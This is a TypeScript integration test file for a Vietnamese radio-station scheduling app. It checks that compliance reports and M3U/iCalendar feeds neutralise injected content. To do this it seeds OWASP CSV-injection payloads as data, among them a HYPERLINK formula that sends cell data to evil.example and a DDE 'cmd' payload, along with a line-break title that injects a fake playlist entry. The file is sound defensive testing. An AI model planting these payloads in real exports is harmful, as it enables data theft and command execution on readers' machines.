import path from 'node:path';
import ExcelJS from 'exceljs';
import { DateTime } from 'luxon';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRuntime, type Runtime } from '../../src/runtime.js';
import { api, uploadFile } from '../helpers/api.js';
import { launchChromium, openPage, signInWithToken } from '../helpers/browser.js';
import { ADMIN_TOKEN, FIXTURES, clearQueuePrefix, createPgDatabase, startTestS3, testConfig, waitFor } from '../helpers/env.js';

const TZ = 'Asia/Ho_Chi_Minh';
const ISSUER = 'Trung tâm Văn hóa, Thể thao và Truyền thông xã Thử';
// Names a spreadsheet would run as formulas (OWASP's CSV-injection examples).
const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '=1+2', '@SUM(1)', '+1+2', '-1+2', "=cmd|' /C calc'!A0"];
// A title that, written raw, ends the #EXTINF line and adds an entry of its own (and tries the same in iCalendar).
const EVIL_TITLE = 'Bản tin sáng\n#EXTINF:1,Giả mạo\nhttp://evil.example/x.mp3\r\nBEGIN:VEVENT\r\nSUMMARY:Giả mạo\r\nEND:VEVENT\u2028cuối';

/** RFC 4180 CSV, enough for a check: quoted fields with doubled quotes, commas and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** The PDF's /Title, written by Chromium either as a literal string or as UTF-16BE hex. */
function pdfTitle(pdf: Buffer): string | null {
  const text = pdf.toString('latin1');
  const hex = /\/Title\s*<FEFF([0-9A-Fa-f]*)>/.exec(text);
  if (hex) {
    const bytes = Buffer.from(hex[1]!, 'hex');
    return bytes.swap16().toString('utf16le');
  }
  const lit = /\/Title\s*\(((?:\\.|[^\\)])*)\)/.exec(text);
  return lit ? lit[1]!.replace(/\\(.)/g, '$1') : null;
}

describe('reports people can hand in, and output that cannot be turned against its reader', () => {
  let rt: Runtime;
  let s3: Awaited<ReturnType<typeof startTestS3>>;
  let browser: Browser | undefined;
  const now = DateTime.now().setZone(TZ);
  const year = now.year;
  const thisMonth = now.toFormat('yyyy-MM');
  const stationIds = new Map<string, string>();
  let feedStation: { id: string; token: string };

  const call = (token: string | null, method: string, url: string, body?: unknown) => api(rt.url!, token, method, url, body);
  const fetchAs = (url: string, token = ADMIN_TOKEN) => fetch(`${rt.url}${url}`, { headers: { authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    s3 = await startTestS3();
    rt = await startRuntime(testConfig({ s3Endpoint: s3.endpoint, bucket: s3.bucket, env: { REPORT_ISSUER: ISSUER, REPORT_PLACE: 'Xã Thử', REPORT_SIGNER_TITLE: 'Giám đốc' } }));
    for (const [i, name] of FORMULA_NAMES.entries()) {
      const res = await call(ADMIN_TOKEN, 'POST', '/api/v1/stations', { code: String(40001 + i), name, timezone: TZ });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      stationIds.set(name, res.body.station?.id ?? res.body.id);
    }
    const grid = [{ days: [1, 2, 3, 4, 5, 6, 7], start: '06:00', durationMin: 60 }];
    const st = await call(ADMIN_TOKEN, 'POST', '/api/v1/stations', { code: '49999', name: 'Đài xã Phát Thử', timezone: TZ, grid });
    expect(st.status).toBe(201);
    feedStation = { id: st.body.station?.id ?? st.body.id, token: st.body.token };
    const up = await uploadFile(rt.url!, ADMIN_TOKEN, path.join(FIXTURES, 'speech-128k.mp3'), { title: EVIL_TITLE });
    expect(up.status, JSON.stringify(up.body)).toBe(202);
    await waitFor(async () => (await call(ADMIN_TOKEN, 'GET', `/api/v1/episodes/${up.body.id}`)).body.status === 'ready', { timeoutMs: 60_000, what: 'episode ready' });
    const day = now.plus({ days: 1 }).toISODate()!;
    const plan = await call(ADMIN_TOKEN, 'POST', '/api/v1/plans', { episodeId: up.body.id, stationIds: [feedStation.id], airingsPerStation: 1, from: day, to: day });
    expect(plan.status, JSON.stringify(plan.body)).toBe(201);
    expect((await call(ADMIN_TOKEN, 'POST', `/api/v1/plans/${plan.body.plan.id}/approve`)).status).toBe(200);
    // Today's playlist is what is tested: bring the airing to now (in progress, so whatever the hour it is today's).
    const startsAt = new Date(Date.now() - 60_000);
    await rt.db.query(`UPDATE airings SET starts_at = $2, ends_at = $3 WHERE plan_id = $1`, [plan.body.plan.id, startsAt, new Date(startsAt.getTime() + 10 * 60_000)]);
    await rt.db.query(`UPDATE stations SET schedule_rev = schedule_rev + 1 WHERE id = $1`, [feedStation.id]);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await rt?.close();
    await clearQueuePrefix(rt.config.redis.prefix);
    await s3?.close();
  });

  describe('CSV and XLSX exports', () => {
    it('write formula-like station names as inert text, and counts as numbers', async () => {
      const res = await fetchAs(`/api/v1/reports/compliance?preset=year&year=${year}&format=csv`);
      expect(res.status).toBe(200);
      const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
      const head = rows[0]!;
      const col = (name: string) => head.indexOf(name);
      for (const name of FORMULA_NAMES) {
        const mine = rows.filter((r) => r[col('Tên đài')] === `'${name}`);
        expect(mine, name).toHaveLength(12);
        // No cell of the file starts a formula.
        expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
        const current = mine.find((r) => r[col('Tháng')] === `${thisMonth.slice(5)}/${year}`)!;
        expect(current[col('Phát lại')]).toBe('0');
      }
    });

    it('the XLSX holds the same names as text cells (no formulas) and counts as number cells', async () => {
      const res = await fetchAs(`/api/v1/reports/compliance?preset=year&year=${year}&format=xlsx`);
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await res.arrayBuffer());
      const ws = wb.worksheets[0]!;
      const headings = (ws.getRow(2).values as unknown[]).slice(1) as string[];
      const nameCol = headings.indexOf('Tên đài') + 1;
      const airedCol = headings.indexOf('Phát lại') + 1;
      const monthCol = headings.indexOf('Tháng') + 1;
      const seen = new Set<string>();
      ws.eachRow((row, n) => {
        if (n < 3) return;
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        });
        const name = row.getCell(nameCol);
        if (typeof name.value === 'string' && name.value.startsWith("'")) {
          seen.add(name.value.slice(1));
          expect(name.type).toBe(ExcelJS.ValueType.String);
          if (row.getCell(monthCol).value === `${thisMonth.slice(5)}/${year}`) {
            expect(row.getCell(airedCol).type).toBe(ExcelJS.ValueType.Number);
            expect(row.getCell(airedCol).value).toBe(0);
          }
        }
      });
      expect([...seen].sort()).toEqual([...FORMULA_NAMES].sort());
    });
  });

  describe('M3U and iCalendar feeds', () => {
    it('a title with line breaks stays one #EXTINF line; every entry line is one of our media links', async () => {
      const res = await fetchAs('/api/v1/station/today.m3u', feedStation.token);
      expect(res.status).toBe(200);
      const lines = (await res.text()).split(/\r\n|\r|\n|\u2028|\u2029/).filter((l) => l !== '');
      expect(lines[0]).toBe('#EXTM3U');
      expect(lines[1]).toMatch(/^#PLAYLIST:Đài xã Phát Thử \d{4}-\d{2}-\d{2}$/);
      const entries = lines.slice(2);
      expect(entries).toHaveLength(2);
      expect(entries[0]).toMatch(/^#EXTINF:\d+,\d{2}:\d{2} Bản tin sáng #EXTINF:1,Giả mạo http:\/\/evil\.example\/x\.mp3 BEGIN:VEVENT SUMMARY:Giả mạo END:VEVENT cuối$/);
      expect(entries[1]!.startsWith(`${rt.url}/`)).toBe(true);
      expect(lines).not.toContain('http://evil.example/x.mp3');
    });

    it('iCalendar escapes the same title: one event, the injected lines stay inside its summary', async () => {
      const res = await fetchAs('/api/v1/station/schedule.ics', feedStation.token);
      expect(res.status).toBe(200);
      const text = await res.text();
      // Unfold (RFC 5545 §3.1), then read line by line.
      const lines = text.replace(/\r\n[ \t]/g, '').split('\r\n');
      expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1);
      expect(lines.filter((l) => l === 'END:VEVENT')).toHaveLength(1);
      expect(lines.filter((l) => l.startsWith('SUMMARY'))).toHaveLength(1);
      const summary = lines.find((l) => l.startsWith('SUMMARY'))!;
      expect(summary).toContain('BEGIN:VEVENT');
      expect(summary).not.toMatch(/[\r\n]/);
    });
  });

  describe('compliance months', () => {
    it('months before a station existed are "—" and left out; the current month is in progress; monthly preset', async () => {
      const res = await call(ADMIN_TOKEN, 'GET', `/api/v1/reports/compliance?preset=year&year=${year}`);
      expect(res.status).toBe(200);
      const id = stationIds.get('=1+2')!;
      const mine = res.body.rows.filter((r: { stationId: string }) => r.stationId === id);
      for (const r of mine) {
        const want = r.month < thisMonth ? 'not_active' : r.month === thisMonth ? 'in_progress' : 'upcoming';
        expect(r.status, r.month).toBe(want);
      }
      // Every station here was set up today: nothing is judged yet, and the earlier months add no targets.
      const openMonths = 12 - (now.month - 1);
      expect(res.body.totals).toMatchObject({ rows: 0, compliantRows: 0, compliant: false, openRows: (FORMULA_NAMES.length + 1) * openMonths });
      expect(res.body.totals.rebroadcastTarget).toBe((FORMULA_NAMES.length + 1) * openMonths * 3);
      expect(res.body.document).toMatchObject({ issuer: ISSUER, place: 'Xã Thử', signerTitle: 'Giám đốc' });

      const csv = parseCsv((await (await fetchAs(`/api/v1/reports/compliance?preset=year&year=${year}&format=csv`)).text()).replace(/^\uFEFF/, ''));
      const col = (name: string) => csv[0]!.indexOf(name);
      const csvMine = csv.filter((r) => r[col('Tên đài')] === "'=1+2");
      const current = csvMine.find((r) => r[col('Tháng')] === `${thisMonth.slice(5)}/${year}`)!;
      expect(current[col('Đạt chỉ tiêu')]).toBe('Đang diễn ra');
      if (now.month > 1) {
        const jan = csvMine.find((r) => r[col('Tháng')] === `01/${year}`)!;
        expect(jan[col('Đạt chỉ tiêu')]).toBe('—');
        expect(jan[col('Phát lại')]).toBe('—');
        expect(jan[col('Chỉ tiêu phát lại')]).toBe('—');
      }

      const monthly = await call(ADMIN_TOKEN, 'GET', `/api/v1/reports/compliance?preset=month&year=${year}&month=${now.month}`);
      expect(monthly.status).toBe(200);
      expect(monthly.body.period).toEqual({ from: now.startOf('month').toISODate(), to: now.endOf('month').toISODate() });
      expect(monthly.body.title).toBe(`Báo cáo tháng ${now.toFormat('MM/yyyy')} — ${now.startOf('month').toFormat('dd/MM/yyyy')}–${now.endOf('month').toFormat('dd/MM/yyyy')}`);
      expect((await call(ADMIN_TOKEN, 'GET', `/api/v1/reports/compliance?preset=month&year=${year}&month=13`)).status).toBe(422);
    });
  });

  describe('printed report and PDF', () => {
    it('the print page has the form of an administrative report and works under the CSP', async () => {
      browser = await launchChromium();
      const { page, problems, context } = await openPage(browser, { width: 1280, height: 900, baseURL: rt.url! });
      await signInWithToken(page, ADMIN_TOKEN);
      await page.goto(`/#/reports/print?preset=year&year=${year}`);
      await page.locator('[data-print-ready]').waitFor();
      const text = await page.locator('.print-doc').innerText();
      expect(text).toContain('CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM');
      expect(text).toContain('Độc lập - Tự do - Hạnh phúc');
      expect(text).toContain(ISSUER.toLocaleUpperCase('vi'));
      expect(text).toContain('BÁO CÁO');
      expect(text).toContain(`Kỳ báo cáo: từ ngày 01/01/${year} đến ngày 31/12/${year}`);
      const d = now;
      const month = d.month <= 2 ? d.toFormat('MM') : String(d.month);
      expect(await page.locator('[data-field="placeDate"]').innerText()).toBe(`Xã Thử, ngày ${d.toFormat('dd')} tháng ${month} năm ${d.year}`);
      expect(text).toContain('GIÁM ĐỐC');
      expect(text).toContain('(Ký, ghi rõ họ tên, đóng dấu)');
      const id = stationIds.get('=1+2')!;
      expect(await page.locator(`tr[data-station-id="${id}"][data-month="${thisMonth}"] .result`).innerText()).toBe('Đang diễn ra');
      if (now.month > 1) expect(await page.locator(`tr[data-station-id="${id}"][data-month="${year}-01"] .result`).innerText()).toBe('—');
      // Printed, only the document: no navigation bar, no buttons.
      await page.emulateMedia({ media: 'print' });
      expect(await page.locator('#topbar').isVisible()).toBe(false);
      expect(await page.locator('.print-actions').isVisible()).toBe(false);
      expect(await page.locator('.print-doc').isVisible()).toBe(true);
      // The report page links to it.
      await page.emulateMedia({ media: 'screen' });
      await page.goto(`/#/reports?preset=month&year=${year}&month=${now.month}`);
      await page.locator('[data-print]').click();
      await page.locator('[data-print-ready]').waitFor();
      expect(await page.locator('[data-field="period"]').innerText()).toContain(`từ ngày ${now.startOf('month').toFormat('dd/MM/yyyy')}`);
      expect(problems).toEqual([]);
      await context.close();
    });

    it('downloads the same page as a PDF', async () => {
      const started = Date.now();
      const res = await fetchAs(`/api/v1/reports/compliance?preset=year&year=${year}&format=pdf`);
      expect(res.status, await res.clone().text()).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^application\/pdf/);
      expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?bao-cao-${year}-01-01_${year}-12-31\\.pdf"?$`));
      const pdf = Buffer.from(await res.arrayBuffer());
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      const pages = pdf.toString('latin1').match(/\/Type\s*\/Page(?!s)/g) ?? [];
      expect(pages.length).toBeGreaterThanOrEqual(1);
      // The title is set by the print page once the report has loaded: the PDF is that page, with its data.
      const json = await call(ADMIN_TOKEN, 'GET', `/api/v1/reports/compliance?preset=year&year=${year}`);
      expect(pdfTitle(pdf)).toBe(json.body.title);
      console.info(`report PDF: ${pdf.length} bytes, ${pages.length} page(s), ${Date.now() - started} ms`);
    });

    it('answers 503 with a Vietnamese message when no browser is installed', async () => {
      // An API process of its own (on PostgreSQL, which starts faster than a second embedded database).
      const pg = await createPgDatabase();
      const other = await startRuntime(testConfig({ s3Endpoint: s3.endpoint, bucket: s3.bucket, databaseUrl: pg.url, env: { ROLE: 'api', CHROMIUM_PATH: '/nonexistent/chromium' } }));
      try {
        const res = await api(other.url!, ADMIN_TOKEN, 'GET', `/api/v1/reports/compliance?preset=year&year=${year}&format=pdf`);
        expect(res.status).toBe(503);
        expect(res.headers.get('content-disposition')).toBeNull();
        expect(res.body.error.code).toBe('PDF_UNAVAILABLE');
        expect(res.body.error.messageVi).toMatch(/^Chưa xuất được tệp PDF: máy chủ chưa có trình duyệt Chromium/);
        expect(res.body.error.messageEn).toContain('/nonexistent/chromium');
      } finally {
        await other.close();
        await clearQueuePrefix(other.config.redis.prefix);
        await pg.drop();
      }
    });
  });
});
